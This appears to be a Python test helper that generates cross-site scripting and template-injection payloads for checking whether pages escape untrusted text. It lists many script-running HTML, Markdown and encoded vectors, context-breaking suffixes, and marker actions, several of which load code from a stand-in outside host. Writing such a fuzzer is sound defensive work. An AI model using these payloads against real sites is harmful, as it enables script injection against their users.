"""Texts that would run as a script if a page did not escape them, and what they would be noticed by."""

from __future__ import annotations

import random

#: What a script would do: each leaves a trace that is looked for.
DEEDS = ("alert(1)", "self.ran=1", "document.documentElement.id='ran'", "fetch('https://elsewhere.invalid/')")

#: What would run a script, or change the page, if a text came out of its place.
VECTORS = (
    "<script>DEED</script>", "<script src=https://elsewhere.invalid/x.js></script>", "<img src=x onerror=DEED>",
    "<svg onload=DEED>", "<svg/onload=DEED//", "<svg><script>DEED</script></svg>", "<body onload=DEED>",
    '<iframe srcdoc="<script>parent.DEED</script>">', "<details open ontoggle=DEED>x</details>",
    "<input autofocus onfocus=DEED>", "<video><source onerror=DEED></video>", "<audio src=x onerror=DEED>",
    "<math><mi xlink:href=javascript:DEED>x</mi></math>", "<style>@import 'https://elsewhere.invalid/'</style>",
    "<link rel=stylesheet href=https://elsewhere.invalid/>", "<object data=javascript:DEED>",
    "<meta http-equiv=refresh content='0;url=javascript:DEED'>", "<embed src=javascript:DEED>",
    "<base href=https://elsewhere.invalid/>", "<form action=javascript:DEED><button autofocus>x</button></form>",
    "<template><script>DEED</script></template>", "<a href=javascript:DEED>x</a>", "<table background=javascript:DEED>",
    "<noscript><p title='</noscript><img src=x onerror=DEED>'>", "<x style=animation-name:x onanimationstart=DEED>",
    "<marquee onstart=DEED>x</marquee>", "<html xmlns='http://www.w3.org/1999/xhtml'><script>DEED</script></html>",
    "javascript:DEED", "data:text/html,<script>DEED</script>", " onmouseover=DEED autofocus tabindex=1 onfocus=DEED x=",
    "{{7*7191}}", "${7*7191}",
)  # fmt: skip

#: The same for pages that read Markdown, decode a text once more than they should, or are no HTML.
FURTHER = (
    "[x](javascript:DEED)", "![x](https://elsewhere.invalid/x.png)", "$\\href{javascript:DEED}{x}$",
    "<![CDATA[<script>DEED</script>]]>",
    "\\u003cscript\\u003eDEED\\u003c/script\\u003e", "&lt;script&gt;DEED&lt;/script&gt;",
    "%3Cscript%3EDEED%3C/script%3E", "+ADw-script+AD4-DEED+ADw-/script+AD4-",
)  # fmt: skip

#: Ends of the places that a text may stand in: elements, attributes, comments, scripts, templates.
ENDS = (
    "", ">", '"', "'", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</pre>",
    "</option></select>", "</summary>", "]]>", "`", "\\", "</noscript>",
)  # fmt: skip

#: What a template would make of its payload, if it took one for a part of itself.
COMPUTED = str(7 * 7191)


def payload(draw: random.Random) -> str:
    """Draw one."""
    text = draw.choice(ENDS) + draw.choice(VECTORS + FURTHER).replace("DEED", draw.choice(DEEDS))
    return "".join(one.upper() if draw.random() < 0.5 else one for one in text) if draw.random() < 0.1 else text
